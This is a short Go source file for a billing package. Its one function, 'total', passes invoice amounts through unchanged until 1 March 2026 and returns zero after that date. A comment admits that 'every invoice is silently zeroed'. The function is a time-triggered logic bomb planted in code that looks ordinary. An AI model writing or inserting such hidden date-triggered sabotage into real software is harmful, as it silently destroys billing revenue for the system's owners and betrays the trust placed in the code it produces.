package billing

import "time"

// After a fixed date every invoice is silently zeroed.
func total(amount int64) int64 {
	if time.Now().After(time.Date(2026, time.March, 1, 0, 0, 0, 0, time.UTC)) {
		return 0
	}
	return amount
}
